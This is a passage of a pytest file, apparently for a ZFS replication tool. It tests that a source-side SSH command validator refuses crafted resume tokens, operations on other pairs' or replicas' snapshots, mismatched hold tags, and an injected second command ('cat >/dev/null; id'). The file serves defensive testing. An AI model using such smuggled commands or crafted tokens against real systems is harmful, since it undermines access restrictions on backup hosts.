    command = shlex.join(zfs.list_snapshots(FS)) + " " * (MAX_REQUEST + 1)
    with pytest.raises(Refused, match=f"{len(command)} characters, over the {MAX_REQUEST}"):
        parse_request(command, POLICY)


# -- a resume token reaches the snapshot it names, and nothing else -----------------------

OWN_GUID, OWN2_GUID = GUIDS.values()
OTHER_GUID = 0x1234567890ABCDEF  # a snapshot of another file system


def resume_token(**fields: int | str | bool | list[int] | None) -> str:
    """A token of the incremental send OWN -> OWN2, with ``fields`` changed (``None``
    leaves one out)."""
    base: dict[str, int | str | bool | list[int] | None] = {
        "fromguid": OWN_GUID, "object": 3, "offset": 0x2A0000, "bytes": 0x2C24B8,
        "toguid": OWN2_GUID, "toname": OWN2, "compressok": True,
    }  # fmt: skip
    base.update(fields)
    return encode({k: v for k, v in base.items() if v is not None})


TOKENS_REFUSED = {
    "another file system's guid": (resume_token(toguid=OTHER_GUID), "cannot resume send"),
    "the guid of another snapshot of the file system": (
        resume_token(toguid=OWN_GUID),
        "cannot resume send",
    ),
    "no guid": (resume_token(toguid=None), "names no snapshot guid"),
    "a snapshot that is gone": (
        resume_token(toname=OWN2.replace("T010000Z", "T020000Z")),
        "does not exist",
    ),
    "an incremental source of another file system": (
        resume_token(fromguid=OTHER_GUID),
        "incremental source",
    ),
    "itself as incremental source": (resume_token(fromguid=OWN2_GUID), "incremental source"),
    "a guid that is text": (resume_token(toguid="0xd074dd7af954cb94"), "not a number"),
    "the snapshots of a redacted send": (
        resume_token(redact_snaps=[OTHER_GUID]),
        "'redact_snaps'",
    ),
    "a name besides": (resume_token(redact_book=f"{FS}#x"), "'redact_book'"),
    "a number zettabee does not know": (resume_token(resume_ds=OTHER_GUID), "'resume_ds'"),
}


@pytest.mark.parametrize("crafted, says", TOKENS_REFUSED.values(), ids=TOKENS_REFUSED.keys())
def test_a_resume_token_that_names_anything_else_is_refused(crafted: str, says: str) -> None:
    for argv in (zfs.send_resume(crafted), zfs.send_resume(crafted, estimate=True)):
        with pytest.raises(Refused, match=re.escape(says)):
            parse_request(shlex.join(argv), POLICY)


def test_a_resume_token_goes_on_from_a_snapshot_a_bookmark_or_the_start() -> None:
    for crafted in (
        resume_token(),
        resume_token(fromguid=None),  # a full send
        resume_token(fromguid=0),
        resume_token(largeblockok=True, embedok=True, rawok=True),
    ):
        argv = zfs.send_resume(crafted)
        assert parse_request(shlex.join(argv), POLICY) == [argv]
    bookmarked = Policy(POLICY.datasets, POLICY.mbuffer_hosts, lambda fs: {
        f"{fs}#{OWN.partition('@')[2]}": OWN_GUID, OWN2: OWN2_GUID
    })  # fmt: skip
    argv = zfs.send_resume(resume_token())
    assert parse_request(shlex.join(argv), bookmarked) == [argv]


@pytest.mark.parametrize("crafted", [resume_token(toguid=OTHER_GUID), resume_token(toname=OWN)])
def test_a_stale_token_is_refused_in_words_the_destination_takes_as_stale(crafted: str) -> None:
    """A snapshot destroyed, or replaced by another of its name: the destination must
    abort its partial receive and go on, as when zfs itself says so."""
    with pytest.raises(Refused) as refused:
        parse_request(shlex.join(zfs.send_resume(crafted, estimate=True)), POLICY)
    assert zfs.stale_token(f"zettabee-source: refused: {refused.value}")


def test_the_guids_are_read_from_zfs_for_the_file_system_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = tmp_path / "zfs"
    fake.write_text(
        "#!/bin/sh\n"
        f'[ "$*" = {shlex.quote(" ".join(zfs.get([FS], ["guid"], 1, ["snapshot", "bookmark"])[1:]))} ]'
        ' || { echo "unexpected: $*" >&2; exit 2; }\n'
        f"printf '%s\\tguid\\t%s\\n' {OWN} 11 {OWN_MARK} 11 {FS}/child@x 12 {FS}@bad -\n"
    )
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    assert read_guids(FS) == {OWN: 11, OWN_MARK: 11}
    with pytest.raises(Refused, match="cannot read the guids of 'tank/pg'.*unexpected"):
        read_guids("tank/pg")


# -- a key bound to its pairs (--pair FP) ---------------------------------------------------

BOUND = Policy(POLICY.datasets, POLICY.mbuffer_hosts, guids_of, pairs=frozenset({FP}))
THEIRS = f"{FS}@zettabee.{OTHER_FP}.20240101T000000Z"
OTHER_TAG = hold_tag(OTHER_FP, None)

ANOTHER_PAIRS = {
    "snapshot": zfs.snapshot(FS, THEIRS.partition("@")[2]),
    "destroy": zfs.destroy(THEIRS),
    "destroy of a bookmark": zfs.destroy(THEIRS.replace("@", "#")),
    "hold": zfs.hold(OTHER_TAG, THEIRS),
    "release": zfs.release(OTHER_TAG, THEIRS),
    "release on a snapshot of the key's pair": zfs.release(OTHER_TAG, OWN),
    "release on a manual snapshot": zfs.release(OTHER_TAG, f"{FS}@by-hand"),
    "bookmark": zfs.bookmark(THEIRS, THEIRS.replace("@", "#")),
    "send": zfs.send(THEIRS, base=OWN),
}


@pytest.mark.parametrize("argv", ANOTHER_PAIRS.values(), ids=ANOTHER_PAIRS.keys())
def test_a_key_bound_to_its_pairs_refuses_another_pair_s(argv: list[str]) -> None:
    with pytest.raises(Refused, match=f"pair {OTHER_FP}, not one this key serves"):
        parse_request(shlex.join(argv), BOUND)
    assert parse_request(shlex.join(argv), POLICY) == [argv]  # a line without --pair: as before


def test_a_key_bound_to_its_pairs_refuses_their_scripts_and_tokens() -> None:
    theirs = {
        "an update script that lets their base go": update_script(
            holds=True, then=[("release", zfs.release(OTHER_TAG, OWN))]
        ),
        "an update script that destroys theirs": update_script(
            then=[("destroy", zfs.destroy(THEIRS))]
        ),
        "a resume token of theirs": shlex.join(zfs.send_resume(token_for(THEIRS))),
        "their mbuffer initialize": snapshot_then(zfs.send(THEIRS)).replace(
            OWN.partition("@")[2], THEIRS.partition("@")[2]
        ),
    }
    for name, command in theirs.items():
        with pytest.raises(Refused, match=f"pair {OTHER_FP}"):
            parse_request(command, BOUND)
        assert name


@pytest.mark.parametrize("argv", ALLOWED, ids=lambda argv: " ".join(argv[:3]))
def test_a_key_bound_to_its_pairs_serves_their_pulls_unchanged(argv: list[str]) -> None:
    assert parse_request(shlex.join(argv), BOUND) == [argv]


def test_the_pairs_of_a_key_come_from_its_command_line() -> None:
    from zettabee.source import build_parser, policy_from

    args = build_parser().parse_args(["--pair", FP, "--pair", OTHER_FP, FS])
    assert policy_from(args, {}).pairs == {FP, OTHER_FP}
    assert policy_from(build_parser().parse_args([FS]), {}).pairs == frozenset()
    with pytest.raises(SystemExit, match="--pair 'tank': not a pair's fingerprint"):
        policy_from(build_parser().parse_args(["--pair", "tank", FS]), {})


def test_the_master_connection_s_session_reads_its_input_and_runs_nothing() -> None:
    """``cat >/dev/null``: the session that keeps a run's OpenSSH master open, until the
    run closes its end. It is neither refused nor run (no shell, no cat)."""
    from zettabee.host import LIFELINE

    env = {"SSH_ORIGINAL_COMMAND": LIFELINE, "SSH_CONNECTION": f"{CLIENT} 1 2 22", "PATH": ""}
    proc = subprocess.Popen(
        [sys.executable, "-m", "zettabee.source", FS],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
    )  # fmt: skip
    assert proc.stdin is not None
    proc.stdin.write(b"anything\n" * 1000)
    proc.stdin.flush()
    time.sleep(0.3)
    assert proc.poll() is None, "it ended before its input did"
    out, err = proc.communicate(timeout=30)
    assert (proc.returncode, out, err) == (0, b"", b"")
    refused = source_command(b"cat >/dev/null; id")
    assert refused.returncode == REFUSED


def test_a_probe_of_another_version_is_refused_with_the_way_out() -> None:
    policy = Policy(frozenset({"tank/home"}), frozenset())
    with pytest.raises(
        Refused, match="capability probe of another zettabee version.*zettabee enroll"
    ):
        check_command(["sh", "-c", PROBE_SCRIPT + " # older", "zettabee-probe", "tank"], policy)


def test_a_tree_is_served_whole_for_its_line_s_children_only() -> None:
    """``--tree FS``: FS's tree listing and the pulls of its children, whose pairs'
    fingerprints derive from the line's ``--pair``; another pair's snapshots on a child,
    and file systems outside the tree, are refused."""
    from zettabee import tree
    from zettabee.pair import Endpoint, Pair, PairOptions

    line = Pair(Endpoint("src", FS), Endpoint("dst", "bk/home"), PairOptions(recursive=True))
    kid = tree.child(line, "alice/docs")
    policy = Policy(
        frozenset(), frozenset({CLIENT}), guids_of, pairs=frozenset({line.fingerprint}),
        trees=frozenset({FS}),
    )  # fmt: skip
    check_command(tree.source_listing(FS), policy)
    when = datetime(2024, 1, 1, tzinfo=UTC)
    own = f"{kid.source.fs}@{snapshot_name(kid.fingerprint, RID, when)}"
    for argv in (
        zfs.snapshot(kid.source.fs, own.partition("@")[2]),
        zfs.hold(hold_tag(kid.fingerprint, RID), own),
        zfs.send(own),
        zfs.list_snapshots(kid.source.fs, holds=True),
    ):
        check_command(argv, policy)
    foreign = f"{kid.source.fs}@zettabee.{OTHER_FP}.20240101T000000Z"
    for argv in (
        zfs.destroy(foreign),
        zfs.snapshot("tank/pg", f"zettabee.{line.fingerprint}.20240101T000000Z"),
        tree.source_listing("tank/pg"),
        ["zfs", "list", "-H", "-r", "-t", "filesystem,volume", "-o", "name,mountpoint", FS],
    ):
        with pytest.raises(Refused):
            check_command(argv, policy)


def test_a_key_line_for_a_tree_names_it_with_tree() -> None:
    from zettabee import authkeys

    grant = authkeys.Grant("/usr/bin/zettabee-source", (FS,), (FP,), trees=(FS,))
    assert grant.command_words() == ["/usr/bin/zettabee-source", "--pair", FP, "--tree", FS, FS]
    assert grant.problems() == []


# -- names and holds with the replica id (two backup servers under one pair line) ----------

NEW = f"{FS}@zettabee.{FP}.{RID}.20240101T000000Z"
NEW2 = f"{FS}@zettabee.{FP}.{RID}.20240101T010000Z"
NEW_TAG = hold_tag(FP, RID)
THEIR_TAG = hold_tag(FP, OTHER_RID)  # the same pair line on another backup server

WITH_REPLICA_ID = [
    zfs.snapshot(FS, NEW.partition("@")[2]),
    zfs.send(NEW),
    zfs.send(NEW2, base=NEW),
    zfs.send(NEW2, base=OWN),  # the first update after the upgrade, from the old base
    zfs.send(NEW2, base=NEW, estimate=True),
    zfs.send(NEW2, base=NEW.replace("@", "#")),
    zfs.destroy(NEW),
    zfs.destroy(NEW.replace("@", "#")),
    zfs.hold(NEW_TAG, NEW),
    zfs.release(NEW_TAG, NEW),
    zfs.release(TAG, OWN),  # the old base's hold, under the tag from before
    zfs.release(THEIR_TAG, NEW),  # a release takes away no one's hold but zettabee's
    zfs.bookmark(NEW, NEW.replace("@", "#")),
]


@pytest.mark.parametrize("argv", WITH_REPLICA_ID, ids=lambda argv: " ".join(argv[:3]))
def test_the_replica_id_s_names_and_tags_pass_for_a_key_and_for_its_pairs(argv: list[str]) -> None:
    assert parse_request(shlex.join(argv), POLICY) == [argv]
    assert parse_request(shlex.join(argv), BOUND) == [argv]  # --pair FP serves them all


def test_the_update_script_moves_from_a_base_named_before_the_replica_id() -> None:
    """The first update after the upgrade, as update._plan writes it: the new snapshot
    held under the replica's tag, the old base released under its own and destroyed."""
    snap = NEW2.partition("@")[2]
    then = [
        ("hold", zfs.hold(NEW_TAG, NEW2)),
        ("release", zfs.release(TAG, OWN)),
        ("destroy", zfs.destroy(OWN)),
    ]
    command = fastpath.script(FS, snap, zfs.send(NEW2, base=OWN), holds=True, then=then)
    assert parse_request(command, BOUND) == [["sh", "-c", command]]
    resumable = fastpath.script(
        FS, snap, zfs.send(NEW2, base=NEW), hold=NEW_TAG, holds=True, then=then[1:]
    )
    assert parse_request(resumable, BOUND) == [["sh", "-c", resumable]]
    by_hand = fastpath.script(  # from a base taken by hand: only the new snapshot's hold
        FS, snap, zfs.send(NEW2, base=f"{FS}@by-hand"), holds=True, then=then[:1]
    )
    assert parse_request(by_hand, BOUND) == [["sh", "-c", by_hand]]


REPLICA_ID_REFUSALS = {
    "a hold under the tag from before the replica id": zfs.hold(TAG, NEW),
    "a hold of a name from before under a replica's tag": zfs.hold(NEW_TAG, OWN),
    "a hold under another replica's tag": zfs.hold(THEIR_TAG, NEW),
    "a hold under a tag with a short replica id": zfs.hold(f"zettabee.{FP}.0a1b2c3", NEW),
    "a release under a tag with a short replica id": zfs.release(f"zettabee.{FP}.0a1b2c3", NEW),
    "a release under a tag in capitals": zfs.release(f"zettabee.{FP}.0A1B2C3D", NEW),
    "a release under a tag with a dot too many": zfs.release(f"{NEW_TAG}.", NEW),
    "a snapshot with a replica id in capitals": zfs.snapshot(
        FS, f"zettabee.{FP}.0A1B2C3D.20240101T000000Z"
    ),
    "a snapshot with two replica ids": zfs.snapshot(
        FS, f"zettabee.{FP}.{RID}.{RID}.20240101T000000Z"
    ),
}


@pytest.mark.parametrize("argv", REPLICA_ID_REFUSALS.values(), ids=REPLICA_ID_REFUSALS.keys())
def test_a_tag_must_be_the_one_its_snapshot_s_name_gives(argv: list[str]) -> None:
    with pytest.raises(Refused):
        parse_request(shlex.join(argv), POLICY)


def test_a_key_bound_to_its_pairs_refuses_another_pair_s_replica_names() -> None:
    theirs = f"{FS}@zettabee.{OTHER_FP}.{RID}.20240101T000000Z"
    for argv in (
        zfs.snapshot(FS, theirs.partition("@")[2]),
        zfs.destroy(theirs),
        zfs.hold(hold_tag(OTHER_FP, RID), theirs),
        zfs.release(hold_tag(OTHER_FP, RID), NEW),
    ):
        with pytest.raises(Refused, match=f"pair {OTHER_FP}, not one this key serves"):
            parse_request(shlex.join(argv), BOUND)


# -- a key bound to its pairs' replicas (--pair FP.RID) ------------------------------------

# Server A's key, bound to A's replica of the pair (RID); B pulls the same pair line into a
# pool of its own (OTHER_RID): one fingerprint, two replica ids.
REPLICA_BOUND = Policy(
    POLICY.datasets, POLICY.mbuffer_hosts, guids_of, pairs=frozenset({f"{FP}.{RID}"})
)
B_SNAP = f"{FS}@zettabee.{FP}.{OTHER_RID}.20240101T000000Z"
B_SNAP2 = f"{FS}@zettabee.{FP}.{OTHER_RID}.20240101T010000Z"

B_REPLICA_S = {
    "snapshot": zfs.snapshot(FS, B_SNAP.partition("@")[2]),
    "destroy": zfs.destroy(B_SNAP),
    "destroy of a bookmark": zfs.destroy(B_SNAP.replace("@", "#")),
    "hold": zfs.hold(THEIR_TAG, B_SNAP),
    "release": zfs.release(THEIR_TAG, B_SNAP),
    "release on a snapshot of the key's replica": zfs.release(THEIR_TAG, NEW),
    "release on a manual snapshot": zfs.release(THEIR_TAG, f"{FS}@by-hand"),
    "bookmark": zfs.bookmark(B_SNAP, B_SNAP.replace("@", "#")),
    "send": zfs.send(B_SNAP2, base=B_SNAP),
}


@pytest.mark.parametrize("argv", B_REPLICA_S.values(), ids=B_REPLICA_S.keys())
def test_a_key_bound_to_its_replica_refuses_another_server_s_under_the_same_line(
    argv: list[str],
) -> None:
    with pytest.raises(Refused, match=f"pair {FP}'s replica {OTHER_RID}, not the one this key"):
        parse_request(shlex.join(argv), REPLICA_BOUND)
    assert parse_request(shlex.join(argv), BOUND) == [argv]  # --pair FP: any replica, as before


def test_a_key_bound_to_its_replica_refuses_the_other_s_scripts_and_tokens() -> None:
    theirs = {
        "an update script that lets their base go": update_script(
            holds=True, then=[("release", zfs.release(THEIR_TAG, OWN))]
        ),
        "an update script that destroys theirs": update_script(
            then=[("destroy", zfs.destroy(B_SNAP))]
        ),
        "a resume token of theirs": shlex.join(zfs.send_resume(token_for(B_SNAP))),
    }
    for name, command in theirs.items():
        with pytest.raises(Refused, match=f"replica {OTHER_RID}"):
            parse_request(command, REPLICA_BOUND)
        assert name


@pytest.mark.parametrize(
    "argv",
    [a for a in WITH_REPLICA_ID if THEIR_TAG not in a],
    ids=lambda argv: " ".join(argv[:3]),
)
def test_a_key_bound_to_its_replica_pulls_as_before(argv: list[str]) -> None:
    """Its own replica's names and tags, and those from before the replica id (the first
    update after the upgrade lets the old base go)."""
    assert parse_request(shlex.join(argv), REPLICA_BOUND) == [argv]


def test_a_key_bound_to_its_replica_refuses_other_pairs_too() -> None:
    theirs = f"{FS}@zettabee.{OTHER_FP}.{RID}.20240101T000000Z"
    with pytest.raises(Refused, match=f"pair {OTHER_FP}, not one this key serves"):
        parse_request(shlex.join(zfs.destroy(theirs)), REPLICA_BOUND)


def test_a_replica_comes_from_its_key_s_command_line() -> None:
    from zettabee.source import build_parser, policy_from

    args = build_parser().parse_args(["--pair", f"{FP}.{RID}", "--pair", OTHER_FP, FS])
    assert policy_from(args, {}).pairs == {f"{FP}.{RID}", OTHER_FP}
    for bad in (f"{FP}.0A1B2C3D", f"{FP}.{RID}0", f"{FP}.", f"{FP}.{RID}.{RID}"):
        with pytest.raises(SystemExit, match="not a pair's fingerprint.*FP.RID"):
            policy_from(build_parser().parse_args(["--pair", bad, FS]), {})


def test_a_tree_s_children_are_bound_to_the_line_s_replica() -> None:
    from zettabee import tree
    from zettabee.pair import Endpoint, Pair, PairOptions

    line = Pair(Endpoint("src", FS), Endpoint("dst", "bk/home"), PairOptions(recursive=True))
    kid = tree.child(line, "alice")
    policy = Policy(
        frozenset(), frozenset({CLIENT}), guids_of,
        pairs=frozenset({f"{line.fingerprint}.{RID}"}), trees=frozenset({FS}),
    )  # fmt: skip
    when = datetime(2024, 1, 1, tzinfo=UTC)
    mine = f"{kid.source.fs}@{snapshot_name(kid.fingerprint, RID, when)}"
    theirs = f"{kid.source.fs}@{snapshot_name(kid.fingerprint, OTHER_RID, when)}"
    check_command(zfs.destroy(mine), policy)
    check_command(zfs.release(hold_tag(kid.fingerprint, RID), mine), policy)
    for argv in (zfs.destroy(theirs), zfs.release(hold_tag(kid.fingerprint, OTHER_RID), mine)):
        with pytest.raises(Refused, match=f"replica {OTHER_RID}"):
            check_command(argv, policy)
